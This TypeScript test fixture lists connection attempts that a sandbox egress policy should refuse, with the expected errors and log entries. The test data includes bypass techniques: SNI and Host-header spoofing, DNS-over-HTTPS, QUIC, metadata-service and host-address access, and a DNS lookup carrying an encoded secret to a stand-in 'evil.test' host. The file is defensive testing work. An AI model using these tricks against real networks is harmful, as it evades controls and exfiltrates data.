/**
 * What policies refuse: each attempt, what the guest sees of it, and what the log says.
 *
 * @module
 */
import { HOST } from "./outside.ts";
import { PLACES, type Refused } from "./policy_attempts.ts";

/** What a guest sees of a destination that is refused before anything is sent there. */
export const UNREACHABLE = /Could(n't| not) connect to server|No route to host|Permission denied/;
/** What it sees of a flow that its first bytes have refused. */
export const RESET = /Connection reset by peer|write:errno=104/;

const allow = (target: string) => `policy: { allow: ["${target}"] }`;

/** The allow rules of the fence. */
export const FENCE = ["*.example.test:443", "forge.example.test:22", "plain.test/http"]
  .concat("10.0.0.0/8:5432/tcp");

/** A refusal because no rule allows it; `target` is what its way out names. */
const byDefault = (logged: string, target: string) => ({
  logged,
  rule: "default-deny",
  hint: allow(target),
});

/** What the fence refuses, in an order in which each name that has to be known is. */
export const REFUSED: readonly Refused[] = [
  {
    what: "another SNI at an allowed address (--connect-to)",
    script: "web --connect-to other.test:443:www.example.test:443 https://other.test/",
    says: RESET,
    ...byDefault("tcp other.test:443", "other.test"),
    allowed: "web https://other.test/",
  },
  {
    what: "another SNI at an allowed address (--resolve)",
    script: `web --resolve other.test:443:${PLACES.web} https://other.test/`,
    says: RESET,
    ...byDefault("tcp other.test:443", "other.test"),
    allowed: "web https://other.test/",
  },
  {
    what: "no SNI at an allowed address",
    script: `hello -connect ${PLACES.web}:443 -noservername`,
    says: RESET,
    ...byDefault("tcp www.example.test:443", `${PLACES.web}:443/tcp`),
    explained: null,
  },
  {
    what: "another protocol at an allowed address",
    script: `talk ${PLACES.web} 443 SSH-2.0-client`,
    says: RESET,
    ...byDefault("tcp www.example.test:443", `${PLACES.web}:443/tcp`),
    allowed: null, // the server speaks TLS
    explained: null,
  },
  {
    what: "a lookup of another name",
    script: "ask other.test",
    says: /status: REFUSED[^]*EDE: 15 \(Blocked\)/,
    ...byDefault("dns other.test", "other.test"),
  },
  {
    what: "the same lookup at another resolver",
    script: `ask @${PLACES.doh} other.test`,
    says: /status: REFUSED[^]*EDE: 15 \(Blocked\)/,
    ...byDefault("dns other.test", "other.test"),
  },
  {
    what: "a lookup that carries a secret",
    script: "ask +tcp c2VjcmV0.evil.test TXT",
    says: /status: REFUSED[^]*EDE: 15 \(Blocked\)[^]*denied by default-deny \(--allow\)/,
    ...byDefault("dns c2vjcmv0.evil.test", "c2vjcmv0.evil.test"),
    allowed: null, // the name is not there
  },
  {
    what: "an address that no name leads to",
    script: `web -k https://${PLACES.cdn}/`,
    says: UNREACHABLE,
    ...byDefault(`tcp ${PLACES.cdn}:443`, `${PLACES.cdn}:443/tcp`),
  },
  {
    what: "DoH at a literal",
    script: `web -k https://${PLACES.doh}/dns-query?dns=AAABAAABAAAAAAAA`,
    says: UNREACHABLE,
    ...byDefault(`tcp ${PLACES.doh}:443`, `${PLACES.doh}:443/tcp`),
  },
  {
    what: "another port of an allowed name",
    script: "web http://www.example.test:8080/",
    says: UNREACHABLE,
    ...byDefault("tcp www.example.test:8080", "www.example.test:8080"),
  },
  {
    what: "port 80 of a name that is allowed on 443",
    script: "web http://www.example.test/",
    says: UNREACHABLE,
    ...byDefault("tcp www.example.test:80", "www.example.test"),
  },
  {
    what: "QUIC to an allowed address",
    script: `datagram ${PLACES.web} 443`,
    says: /No route to host/,
    ...byDefault("udp www.example.test:443", `${PLACES.web}:443/udp`),
    explained: `${PLACES.web}:443/udp`,
  },
  {
    what: "QUIC to an allowed IPv6 address",
    script: `datagram ${PLACES.web6} 443`,
    says: /Permission denied/,
    ...byDefault("udp www.example.test:443", `${PLACES.web}:443/udp`),
    allowed: `datagram ${PLACES.web} 443`,
    explained: null,
  },
  {
    what: "SSH at an address that was not looked up",
    script: `hear ${PLACES.forge} 22`,
    says: UNREACHABLE,
    ...byDefault(`tcp ${PLACES.forge}:22`, `${PLACES.forge}:22/tcp`),
  },
  {
    what: "another port of an allowed prefix",
    script: `hear ${PLACES.database} 5433`,
    says: UNREACHABLE,
    ...byDefault(`tcp ${PLACES.database}:5433`, `${PLACES.database}:5433/tcp`),
  },
  {
    what: "a name that leads to a private address",
    script: "ask inner.example.test",
    says: /status: NOERROR.*\n.*ANSWER: 0,/,
    logged: "dns inner.example.test",
    rule: "default-deny",
    explained: null,
  },
  {
    what: "that address itself",
    script: `web -k --resolve inner.example.test:443:${PLACES.router} https://inner.example.test/`,
    says: UNREACHABLE,
    ...byDefault(`tcp ${PLACES.router}:443`, `${PLACES.router}:443/tcp`),
  },
  {
    what: "another Host at an allowed address",
    script: "web -i -H 'Host: other.test' http://plain.test/",
    says: /^HTTP\/1\.1 403 [^]*default-deny \(--allow\)[^]*allow: \["other\.test"\]/,
    ...byDefault("tcp other.test:80", "other.test"),
    allowed: "web http://other.test/",
  },
  {
    what: "the metadata service",
    script: `web http://${PLACES.metadata}/`,
    says: UNREACHABLE,
    logged: `tcp ${PLACES.metadata}:80`,
    rule: "protect metadata",
    hint: "policy: { protect: off }",
    allowed: null, // no rule allows it either
  },
  {
    what: "the host's own address",
    script: `hear ${HOST.ip} 80`,
    says: UNREACHABLE,
    ...byDefault(`tcp ${HOST.ip}:80`, `${HOST.ip}:80/tcp`),
  },
];

/** A refusal by the strict level; `level` is its way out. */
export const protects = (logged: string, level?: string) => ({
  logged,
  rule: "protect strict",
  ...(level === undefined ? {} : { hint: `policy: { protect: ${level} }` }),
});
/** A refusal by a deny rule of the command line. */
const denies = (logged: string, rule: string) => ({
  logged,
  rule,
  hint: `policy: { deny: [] } without "${rule}" (--deny)`,
});

/** Deny rules beside no allow rule. */
export const DENIED = ["other.test", "151.101.2.0/24", "www.example.test:443"];

/** What is refused without any allow rule. */
export const REFUSED_BY_DENIAL: readonly Refused[] = [
  {
    what: "the metadata service",
    script: `web http://${PLACES.metadata}/`,
    says: UNREACHABLE,
    ...protects(`tcp ${PLACES.metadata}:80`, "off"),
  },
  {
    what: "the metadata service by UDP",
    script: `datagram ${PLACES.metadata} 443`,
    says: UNREACHABLE,
    ...protects(`udp ${PLACES.metadata}:443`, "off"),
  },
  {
    what: "the host's own address",
    script: `hear ${HOST.ip} 80`,
    says: UNREACHABLE,
    ...protects(`tcp ${HOST.ip}:80`, "metadata"),
  },
  {
    what: "the host's own IPv6 address",
    script: `hear ${HOST.ip6} 80`,
    says: UNREACHABLE,
    ...protects(`tcp [${HOST.ip6}]:80`, "metadata"),
  },
  {
    what: "a private address",
    script: `hear ${PLACES.database} 5432`,
    says: UNREACHABLE,
    ...protects(`tcp ${PLACES.database}:5432`, "metadata"),
  },
  {
    what: "a loopback address in NAT64's prefix",
    script: "hear 64:ff9b::7f00:1 80",
    says: UNREACHABLE,
    ...protects("tcp [64:ff9b::7f00:1]:80"),
  },
  {
    what: "a denied name",
    script: "ask other.test",
    says: /status: REFUSED[^]*EDE: 15 \(Blocked\)[^]*denied by other\.test \(--deny\)/,
    ...denies("dns other.test", "other.test"),
  },
  {
    what: "an alias of a denied name",
    script: "ask trap.test",
    says: /status: REFUSED[^]*EDE: 15 \(Blocked\)/,
    ...denies("dns other.test", "other.test"),
  },
  {
    what: "a denied prefix",
    script: `web -k https://${PLACES.cdn}/`,
    says: UNREACHABLE,
    ...denies(`tcp ${PLACES.cdn}:443`, "151.101.2.0/24"),
  },
  {
    what: "a name that leads into a denied prefix",
    script: "ask cdn.test",
    says: /status: NOERROR.*\n.*ANSWER: 0,/,
    ...denies("dns cdn.test", "151.101.2.0/24"),
    explained: null,
  },
  {
    what: "the denied port of a name",
    script: "web https://www.example.test/",
    says: UNREACHABLE,
    ...denies("tcp www.example.test:443", "www.example.test:443"),
  },
];
